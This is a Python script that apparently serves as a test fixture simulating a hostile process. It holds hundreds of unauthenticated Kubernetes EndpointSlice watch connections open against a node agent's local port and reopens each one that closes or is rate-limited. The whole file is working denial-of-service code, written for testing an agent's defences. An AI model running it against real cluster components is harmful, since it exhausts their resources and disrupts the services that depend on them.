"""A process of a node that takes whatever the node's agent gives to somebody without a credential, again and again.

Run as a program: ``python hostile.py PORT``; it prints a line once it has asked for all that it will hold, and ends
when its stdin does.
"""

from __future__ import annotations

import contextlib
import selectors
import socket
import sys
from itertools import count
from typing import Final

WATCHES: Final = 300
SELECTIONS: Final = 64
_SLICES: Final = "/apis/discovery.k8s.io/v1/endpointslices?watch=true&allowWatchBookmarks=true"


def connect(port: int, selection: str) -> socket.socket:
    """Open a watch that nobody will read."""
    connection = socket.create_connection(("127.0.0.1", port), timeout=10)
    connection.sendall(f"GET {_SLICES}{selection} HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n".encode())
    connection.setblocking(False)
    return connection


def attack(port: int) -> None:
    """Hold watches of the same and of made-up selections, and open another for each that ends."""
    waiting = selectors.DefaultSelector()
    waiting.register(sys.stdin, selectors.EVENT_READ)
    numbers = count()
    wanted = [*[""] * WATCHES, *["made-up"] * SELECTIONS]
    told = False
    while True:
        for kind in wanted:
            with contextlib.suppress(OSError):
                selection = f"&labelSelector=made-up%3D{next(numbers)}" if kind else ""
                waiting.register(connect(port, selection), selectors.EVENT_READ, kind)
        if not told:
            told = True
            print("at it", flush=True)
        wanted = []
        for key, _ in waiting.select(1.0):
            connection = key.fileobj
            if not isinstance(connection, socket.socket):
                return
            with contextlib.suppress(BlockingIOError):
                try:
                    data = connection.recv(65536)
                except ConnectionError:
                    data = b""
                if data and not data.startswith(b"HTTP/1.1 429"):
                    continue
                waiting.unregister(connection)
                connection.close()
                wanted.append(key.data)


if __name__ == "__main__":
    attack(int(sys.argv[1]))
